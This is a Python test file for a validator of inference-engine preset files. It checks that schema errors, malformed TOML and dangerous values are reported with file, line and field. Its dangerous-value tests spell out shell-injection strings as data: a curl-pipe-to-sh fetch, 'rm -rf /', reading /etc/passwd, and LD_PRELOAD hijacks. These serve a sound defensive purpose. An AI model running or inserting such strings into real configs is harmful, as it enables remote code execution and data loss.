"""Tests of the preset check: findings name file, line, field and expected value, and no content
breaks the check."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import tomlkit
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from workbench.engines.preset_trust import find_foreign_flags
from workbench.model.findings import Finding, Level
from workbench.store.preset_check import MAX_FINDINGS, check_file, check_text, dotted_path
from workbench.store.preset_file import MAX_BYTES


def one(text: str, code: str, **options: Any) -> Finding:
    """Return the only finding with that code; findings with other codes are ignored."""
    found = [f for f in check_text(text, **options).findings if f.code == code]
    assert len(found) == 1, (code, check_text(text, **options).findings)
    return found[0]


def line_of(text: str, start: str) -> int:
    return next(n for n, line in enumerate(text.split("\n"), 1) if line.startswith(start))


@pytest.mark.parametrize(
    ("engine", "flag", "value"),
    [
        ("llamacpp", "rpc", "evil:50052"),
        ("llamacpp", "model-url", "evil/x"),
        ("llamacpp", "docker-repo", "evil"),
        ("tabbyapi", "disable-auth", True),
        ("vllm", "allowed-media-domains", ["169.254.169.254"]),
        ("vllm", "allowed-media-domains", "evil"),
        ("vllm", "otlp-traces-endpoint", "evil:4317"),
        ("vllm", "master-addr", "evil"),
        ("sglang", "dist-init-addr", "evil:5000"),
    ],
)
def test_a_flag_that_names_another_machine_or_opens_the_server_needs_agreement(
    engine: str, flag: str, value: object
) -> None:
    (part,) = find_foreign_flags(engine, {flag: value})
    assert part.name == flag


@pytest.mark.parametrize(
    ("engine", "flag", "value"),
    [
        ("llamacpp", "hf-repo", "org/model"),
        ("tabbyapi", "disable-auth", False),
        ("vllm", "enable-tokenizer-info-endpoint", True),
        ("vllm", "host", "127.0.0.1"),
        ("vllm", "disable-access-log-for-endpoints", "health"),
    ],
)
def test_a_flag_that_does_neither_needs_none(engine: str, flag: str, value: object) -> None:
    assert not list(find_foreign_flags(engine, {flag: value}))


def test_a_valid_file_has_no_findings(minimal: str) -> None:
    checked = check_text(minimal, file="presets/mine.toml")
    assert checked.findings == ()
    assert checked.preset is not None and checked.preset.flags == {
        "max-num-seqs": 16,
        "gpu-memory-utilization": 0.9,
    }


def test_invalid_toml_is_reported_with_line_and_column(minimal: str) -> None:
    broken = minimal.replace('title = "Mine"', "title = Mine")
    finding = one(broken, "preset.bad-toml", file="x/mine.toml")
    assert finding.file_and_line_text == f"x/mine.toml:{line_of(broken, 'title')}"
    assert "column 9" in finding.text and finding.level is Level.ERROR
    assert check_text(broken).preset is None and check_text(broken).document is None


@pytest.mark.parametrize(
    ("old", "new", "code", "field", "words"),
    [
        ("title =", "titel =", "preset.unknown-field", "titel", ["expected one of", "title"]),
        ("count = 1", "cuont = 1", "preset.unknown-field", "hardware.cuont", ["count"]),
        (
            "count = 1",
            'count = "1"',
            "preset.wrong-type",
            "hardware.count",
            ["a whole number", '"1"'],
        ),
        (
            "count = 1",
            "count = 1.5",
            "preset.wrong-type",
            "hardware.count",
            ["a whole number", "1.5"],
        ),
        (
            "count = 1",
            "count = 0",
            "preset.wrong-value",
            "hardware.count",
            ["greater than or equal to 1", "found 0"],
        ),
        (
            'name = "vllm"',
            'name = "vlm"',
            "preset.wrong-type",
            "engine.name",
            ['"sglang"', '"vlm"'],
        ),
        ('name = "vllm"', "name = 3", "preset.wrong-type", "engine.name", ["one of"]),
        (
            'status = "untested"',
            "",
            "preset.missing-field",
            "provenance.status",
            ["one of", '"corrected"'],
        ),
        ('id = "mine"', 'id = "My Preset"', "preset.wrong-value", "id", ["match pattern"]),
        ("schema = 1", "schema = 2", "preset.wrong-type", "schema", ["one of 1", "found 2"]),
        ('title = "Mine"', 'title = ""', "preset.wrong-value", "title", ["at least 1 character"]),
        (
            "max-num-seqs = 16",
            "max-num-seqs = nan",
            "preset.wrong-value",
            "flags.max-num-seqs",
            ["nan"],
        ),
        (
            "max-num-seqs = 16",
            "max-num-seqs = 2026-11-21",
            "preset.wrong-type",
            "flags.max-num-seqs",
            ["date"],
        ),
        (
            "[provenance]",
            "[env]\nA = 1\n[provenance]",
            "preset.wrong-type",
            "env.A",
            ["text", "found 1"],
        ),
    ],
)
def test_schema_errors_name_the_field_and_what_was_expected(
    minimal: str, old: str, new: str, code: str, field: str, words: list[str]
) -> None:
    assert old in minimal
    text = minimal.replace(old, new, 1)
    finding = one(text, code)
    assert finding.field == field and finding.text.startswith(f"{field}: ")
    assert finding.level is Level.ERROR and finding.line is not None
    table, _, name = field.rpartition(".")
    assert text.split("\n")[finding.line - 1].startswith((f"{name} =", f"[{table}]"))
    assert all(w in finding.text for w in words), finding.text


@pytest.mark.parametrize("value", ["1e-300", "1e300", "inf", "nan", "-1.0"])
@pytest.mark.parametrize(
    "field", ["kv_bytes_per_token", "weight_gb", "bytes_per_token_gb", "parameters_b"]
)
def test_a_size_of_a_model_that_cannot_be_is_refused(minimal: str, field: str, value: str) -> None:
    """A memory estimate divided by 1e-300 ended with an OverflowError."""
    text = minimal.replace("[model]\n", f"[model]\n{field} = {value}\n")
    assert text != minimal
    found = [f for f in check_text(text).findings if f.level is Level.ERROR]
    assert [f.field for f in found] == [f"model.{field}"], found


def test_a_field_within_an_empty_key_is_not_named_as_if_it_stood_outside() -> None:
    assert dotted_path(("", "title")) == ".title"


def test_a_misspelt_field_gets_the_nearest_name_as_a_suggestion(minimal: str) -> None:
    assert one(minimal.replace("title =", "titel ="), "preset.unknown-field").fix == (
        'did you mean "title"?'
    )
    assert one(minimal.replace('"vllm"', '"vlm"'), "preset.wrong-type").fix == (
        'did you mean "vllm"?'
    )
    undefined = minimal.replace('id = "${model}"', 'id = "${modl}"')
    assert one(undefined, "preset.variable-undefined").fix == 'did you mean "model"?'


def test_lines_are_found_in_arrays_of_tables_and_after_multiline_values(minimal: str) -> None:
    text = minimal.replace(
        'summary = "A small preset."',
        'summary = """\n[hardware]\ncount = 9\n"""\ncaveats = [\n  "one",  # ]\n  "two = 2",\n]',
    )
    claim = '\n[[claims]]\ntext = "a"\nverdict = "{}"\ncorrect = "b"\nbasis = "c"\n'
    text += claim.format("true") + claim.format("maybe")
    finding = one(text, "preset.wrong-type")
    assert finding.field == "claims[1].verdict"
    assert finding.line == line_of(text, 'verdict = "maybe"')
    wrong_count = text.replace("[hardware]\ncount = 1", "[hardware]\ncount = -1").replace(
        "maybe", "false"
    )
    assert one(wrong_count, "preset.wrong-value").line == line_of(wrong_count, "count = -1")


def test_inline_tables_report_their_line(minimal: str) -> None:
    text = minimal.replace("[hardware]\ncount = 1\n", "")
    text = text.replace('id = "mine"', 'id = "mine"\nhardware = { count = 0 }')
    assert one(text, "preset.wrong-value").line == line_of(text, "hardware = ")


@pytest.mark.parametrize(
    ("old", "new", "code", "level"),
    [
        ("max-num-seqs = 16", 'x = "$(touch /srv/pwned)"', "preset.suspicious-value", Level.ERROR),
        ("max-num-seqs = 16", 'x = "`id`"', "preset.suspicious-value", Level.ERROR),
        ("max-num-seqs = 16", 'x = "a; rm -rf /"', "preset.suspicious-value", Level.ERROR),
        (
            "max-num-seqs = 16",
            'x = "a && curl http://x | sh"',
            "preset.suspicious-value",
            Level.ERROR,
        ),
        ("max-num-seqs = 16", 'x = "a|/bin/sh"', "preset.suspicious-value", Level.ERROR),
        ("max-num-seqs = 16", r'x = "a\nb"', "preset.suspicious-value", Level.ERROR),
        (
            "max-num-seqs = 16",
            'x = ["ok", "<(cat /etc/passwd)"]',
            "preset.suspicious-value",
            Level.ERROR,
        ),
        (
            "max-num-seqs = 16",
            'x = { deep = { er = "$(id)" } }',
            "preset.suspicious-value",
            Level.ERROR,
        ),
        ("max-num-seqs = 16", 'x = "a ; b"', "preset.suspicious-value", Level.WARN),
        ("max-num-seqs = 16", 'x = "a > /etc/passwd"', "preset.suspicious-value", Level.WARN),
        ("max-num-seqs = 16", 'x = "$HOME/models"', "preset.not-expanded", Level.WARN),
        ("max-num-seqs = 16", 'x = "~/models"', "preset.not-expanded", Level.WARN),
        ("max-num-seqs = 16", 'x = "${IFS}"', "preset.variable-syntax", Level.ERROR),
        ("max-num-seqs = 16", 'x = "${model"', "preset.variable-syntax", Level.ERROR),
        ("max-num-seqs = 16", "--max-num-seqs = 16", "preset.flag-name", Level.ERROR),
        ("max-num-seqs = 16", '"x; id" = 16', "preset.flag-name", Level.ERROR),
        ("max-num-seqs = 16", "trust-remote-code = true", "preset.runs-code", Level.WARN),
        ("max-num-seqs = 16", 'api-key = "sk-1"', "preset.secret", Level.WARN),
        ('id = "${model}"', 'id = "${model} $(id)"', "preset.suspicious-value", Level.ERROR),
        ("[flags]", 'env.HF_TOKEN = "hf_x"\n[flags]', "preset.unknown-field", Level.ERROR),
        (
            "[provenance]",
            '[env]\nLD_PRELOAD = "/srv/x.so"\n[provenance]',
            "preset.hijacks-execution",
            Level.WARN,
        ),
        (
            "[provenance]",
            '[env]\nPYTHONPATH = "/srv"\n[provenance]',
            "preset.hijacks-execution",
            Level.WARN,
        ),
        (
            "[provenance]",
            '[env]\nPATH = "/srv"\n[provenance]',
            "preset.hijacks-execution",
            Level.WARN,
        ),
        (
            "[provenance]",
            '[env]\n"BASH_FUNC_x%%" = "1"\n[provenance]',
            "preset.env-name",
            Level.ERROR,
        ),
        ("[provenance]", '[env]\n"A=B" = "1"\n[provenance]', "preset.env-name", Level.ERROR),
        ("[provenance]", '[env]\nHF_TOKEN = "hf_x"\n[provenance]', "preset.secret", Level.WARN),
        (
            "[provenance]",
            '[env]\nHF_ENDPOINT = "http://x"\n[provenance]',
            "preset.points-elsewhere",
            Level.WARN,
        ),
        (
            "[provenance]",
            '[env]\nA = "$(id)"\n[provenance]',
            "preset.suspicious-value",
            Level.ERROR,
        ),
        (
            "  # which one",
            '\nexecutable = ["sh", "-c", "id"]',
            "preset.suspicious-executable",
            Level.ERROR,
        ),
        (
            "  # which one",
            '\nexecutable = ["python", "-c", "x"]',
            "preset.suspicious-executable",
            Level.ERROR,
        ),
        (
            "  # which one",
            '\nexecutable = ["nice", "/bin/bash"]',
            "preset.suspicious-executable",
            Level.ERROR,
        ),
        ("  # which one", "\nexecutable = []", "preset.suspicious-executable", Level.ERROR),
        (
            "  # which one",
            '\nexecutable = ["/opt/../bin/vllm"]',
            "preset.path-traversal",
            Level.ERROR,
        ),
        ("  # which one", '\nexecutable = ["/srv/thing"]', "preset.unusual-executable", Level.WARN),
        ("  # which one", '\nworkdir = "../../etc"', "preset.path-traversal", Level.ERROR),
        (
            "[provenance]",
            '[[nodes]]\nname = "a"\nrank = 0\nenv = { LD_AUDIT = "x" }\n[provenance]',
            "preset.hijacks-execution",
            Level.WARN,
        ),
        (
            'default = "Qwen/Qwen3-0.6B"',
            'default = "$(id)"',
            "preset.suspicious-value",
            Level.ERROR,
        ),
        ('title = "Mine"', r'title = "Mi\u001b[31mne"', "preset.control-character", Level.ERROR),
        ('title = "Mine"', r'title = "Mi\u202Ene"', "preset.control-character", Level.ERROR),
    ],
)
def test_dangerous_values_are_reported(
    minimal: str, old: str, new: str, code: str, level: Level
) -> None:
    assert old in minimal
    text = minimal.replace(old, new, 1)
    finding = one(text, code)
    assert finding.level is level and finding.line is not None and finding.field
    assert finding.text.isprintable()
    if level is Level.ERROR:
        assert check_text(text).preset is None


@pytest.mark.parametrize(
    "value",
    [
        '"expandable_segments:True,max_split_size_mb:512"',
        '"rocep1s0f1,roceP2p1s0f1"',
        '"blk\\\\.(1|2)\\\\.ffn=CPU"',
        '"{% for m in messages %}{{ m.content | trim }}{% endfor %}"',
        '{ method = "ngram", num_speculative_tokens = 3 }',
        '"http://127.0.0.1:8000/?a=1&b=2"',
        '"/srv/models/Some Model (v2)"',
        '"a b c"',
        "[1, 2, 3]",
        "true",
    ],
)
def test_ordinary_values_are_not_errors(minimal: str, value: str) -> None:
    text = minimal.replace("max-num-seqs = 16", f"x = {value}")
    assert [f for f in check_text(text).findings if f.level is Level.ERROR] == []


def test_undefined_and_unused_variables_are_reported(minimal: str) -> None:
    unused = minimal.replace('id = "${model}"', 'id = "x"')
    assert one(unused, "preset.variable-unused").field == "variables.model"
    inside = minimal.replace('default = "Qwen/Qwen3-0.6B"', 'default = "${model}"')
    assert one(inside, "preset.variable-undefined").field == "variables.model.default"
    odd_name = minimal.replace("[variables.model]", "[variables.Model]")
    assert {f.level for f in check_text(odd_name).findings} >= {Level.ERROR}


def test_ranks_of_nodes_run_from_zero_without_gaps(minimal: str) -> None:
    node = '\n[[nodes]]\nname = "{}"\nrank = {}\n'
    assert check_text(minimal + node.format("a", 0) + node.format("b", 1)).findings == ()
    assert (
        "ranks of the nodes must be 0, 1"
        in one(minimal + node.format("a", 0) + node.format("b", 2), "preset.wrong-value").text
    )


def test_id_baseline_and_file_name_are_compared(minimal: str, tmp_path: Path) -> None:
    assert one('baseline = "mine"\n' + minimal, "preset.baseline").level is Level.ERROR
    path = tmp_path / "other.toml"
    path.write_text(minimal)
    (finding,) = check_file(path).findings
    assert (
        finding.code == "preset.file-name"
        and finding.level is Level.WARN
        and "mine.toml" in str(finding.fix)
    )


def _fifo(path: Path) -> None:
    os.mkfifo(path)


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda p: None, "preset.unreadable"),
        (lambda p: p.mkdir(), "preset.not-a-file"),
        (_fifo, "preset.not-a-file"),
        (lambda p: p.write_bytes(b"#" * (MAX_BYTES + 1)), "preset.too-large"),
        (lambda p: p.write_bytes(b'title = "x"\nsummary = "\xff"\n'), "preset.not-utf8"),
        (lambda p: p.write_bytes(b"\x7fELF\x02\x01"), "preset.bad-toml"),
        (lambda p: p.write_bytes(b""), "preset.missing-field"),
        (lambda p: p.write_text("a=" + "[" * 50_000), "preset.too-deep"),
        (lambda p: p.write_text(".".join("a" * 60_000) + " = 1"), "preset.too-deep"),
        (lambda p: p.write_text("[" + ".".join("a" * 60_000) + "]"), "preset.too-deep"),
        (lambda p: p.write_text("x = " + "{a=" * 30 + "1" + "}" * 30), "preset.too-deep"),
        (lambda p: p.write_text(" . ".join(["a"] * 60_000) + " = 1"), "preset.too-deep"),
        (lambda p: p.write_text(".".join(['"a b"'] * 40_000) + " = 1"), "preset.too-deep"),
        (lambda p: p.write_text("x = " + "9" * 5000), "preset.bad-toml"),
    ],
)
def test_files_that_are_not_presets_are_reported(
    tmp_path: Path, make: Callable[[Path], None], code: str
) -> None:
    path = tmp_path / "x.toml"
    make(path)
    checked = check_file(path)
    assert checked.preset is None
    assert code in {f.code for f in checked.findings}
    assert all(f.level is Level.ERROR and f.file == str(path) for f in checked.findings)
    if code == "preset.not-utf8":
        assert checked.findings[0].line == 2


@pytest.mark.parametrize(
    "more",
    [
        "\n[[claims]]" * 20_000,
        "\n[env]\n" + "".join(f'LD_{i} = "`x"\n' for i in range(14_000)),
        '\n[env]\nx = "' + ";/a" * 80_000 + '"',
        '\n[env]\nx = "' + "$" * 240_000 + '"',
    ],
    ids=["claims", "env", "paths", "dollars"],
)
@pytest.mark.timeout(120)  # a quadratic search takes many minutes
def test_a_file_made_to_be_slow_is_checked_quickly(minimal: str, more: str) -> None:
    findings = check_text(minimal + more).findings
    assert len(findings) <= MAX_FINDINGS


def test_prose_with_many_full_stops_is_not_a_deep_key(minimal: str) -> None:
    prose = "One. Two of it. " * 20
    assert check_text(minimal.replace('"A small preset."', f'"""\n{prose}\n"""')).findings == ()


def test_a_byte_order_mark_is_accepted(minimal: str, tmp_path: Path) -> None:
    path = tmp_path / "mine.toml"
    path.write_bytes(b"\xef\xbb\xbf" + minimal.encode())
    assert check_file(path).findings == ()


def test_the_check_runs_nothing_and_writes_nothing(minimal: str, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    path = tmp_path / "mine.toml"
    path.write_text(
        minimal.replace("max-num-seqs = 16", f'x = "$(touch {marker})"\ny = "`touch {marker}`"')
    )
    before = sorted(tmp_path.iterdir())
    assert check_file(path).findings
    assert sorted(tmp_path.iterdir()) == before


# Whatever it is given, the check answers.

_scalars = st.booleans() | st.integers(-(2**63), 2**63 - 1) | st.floats() | st.text(max_size=20)
_values = st.recursive(
    _scalars,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)
_FIELDS = [
    "schema",
    "id",
    "title",
    "summary",
    "hardware",
    "engine",
    "model",
    "flags",
    "env",
    "gpu_settings",
    "host_settings",
    "nodes",
    "variables",
    "benchmark",
    "baseline",
    "references",
    "claims",
    "caveats",
    "provenance",
]


@pytest.mark.slow
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(st.sampled_from(_FIELDS) | st.text(max_size=6), _values, max_size=10))
def test_checking_any_toml_document_returns_findings(document: dict[str, Any]) -> None:
    checked = check_text(tomlkit.dumps(document), file="x.toml")
    assert checked.findings, "no random document is a preset"
    assert checked.preset is None
    for finding in checked.findings:
        assert finding.code.startswith("preset.") and finding.text
        assert finding.as_json()["file"] == "x.toml"


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_checking_any_mutation_of_a_valid_file_returns_findings(
    minimal: str, data: st.DataObject
) -> None:
    text = minimal
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(text)))
        cut = data.draw(st.integers(0, 12))
        text = text[:at] + data.draw(st.text(max_size=8)) + text[at + cut :]
    checked = check_text(text)
    broken = any(f.level is Level.ERROR for f in checked.findings)
    assert broken == (checked.preset is None)
    assert all(f.line is None or 1 <= f.line <= text.count("\n") + 1 for f in checked.findings)


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.binary(max_size=200))
def test_checking_any_bytes_returns_findings(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "x.toml"
    path.write_bytes(data)
    assert check_file(path).preset is None


def test_a_number_that_python_cannot_print_is_reported(minimal: str) -> None:
    finding = one(
        minimal.replace("max-num-seqs = 16", f"max-num-seqs = 0x{'f' * 5000}"), "preset.bad-toml"
    )
    assert "64 bits" in finding.text
    finding = one(
        minimal.replace("max-num-seqs = 16", f"max-num-seqs = {'9' * 5000}"), "preset.bad-toml"
    )
    assert "a number has thousands of digits" in finding.text


def test_an_unknown_write_up_is_an_error_with_the_nearest_name(minimal: str) -> None:
    text = minimal.replace(
        'summary = "A small preset."', 'summary = "A small preset."\ndocuments = ["dgx-spark-vllm"]'
    )
    (finding,) = check_text(text).findings
    assert finding.code == "preset.unknown-document" and finding.line == 6
    assert finding.fix == 'did you mean "dgx-spark-vllm-diagnosis"?'


@pytest.mark.parametrize(
    ("table", "line"),
    [
        ("[engine]", "open_files = 1"),
        ("[engine]", "open_files = 1099511627776"),
        ("[engine]", "open_files = true"),
        ("[warm_up]", "requests = 1000000000"),
        ("[warm_up]", "requests = 0"),
        ("[warm_up]", "input_tokens = [512, 16]"),
        ("[warm_up]", "input_tokens = [1, 1000000000]"),
        ("[warm_up]", "max_tokens = -1"),
        ("[[gpu_settings]]", 'c_states = "../../etc"'),
        ("[[gpu_settings]]", 'c_states = "off:0-99"'),
        ("[[gpu_settings]]", f'governor = "{"x" * 40}"'),
    ],
)
def test_insane_values_of_what_apply_would_do_are_errors(
    minimal: str, table: str, line: str
) -> None:
    text = (
        minimal.replace(table, f"{table}\n{line}")
        if table in minimal
        else f"{minimal}\n{table}\n{line}\n"
    )
    checked = check_text(text)
    assert checked.preset is None and any(
        line.split()[0] in f"{f.flag} {f.text}" for f in checked.findings
    ), checked


@pytest.mark.parametrize(
    ("name", "setting", "warned"),
    [
        ("NVIDIA RTX PRO 6000 Blackwell Workstation Edition", "lock_memory_clocks_mhz", True),
        ("NVIDIA RTX PRO 6000 Blackwell Workstation Edition", "lock_gpu_clocks_mhz", False),
        ("NVIDIA GeForce RTX 5060 Ti", "lock_memory_clocks_mhz", False),
    ],
)
def test_a_memory_lock_on_gb202_is_advised_against(
    minimal: str, name: str, setting: str, warned: bool
) -> None:
    text = minimal.replace("count = 1", f'count = 1\ngpu_names = ["{name}"]')
    text += f"\n[[gpu_settings]]\n{setting} = [2000, 2000]\n"
    found = [f for f in check_text(text).findings if f.code == "gpu.memory-lock"]
    assert [f.line for f in found] == [line_of(text, setting)] * warned
    assert all(f.source == "open-gpu-kernel-modules #1265, #1266" for f in found)
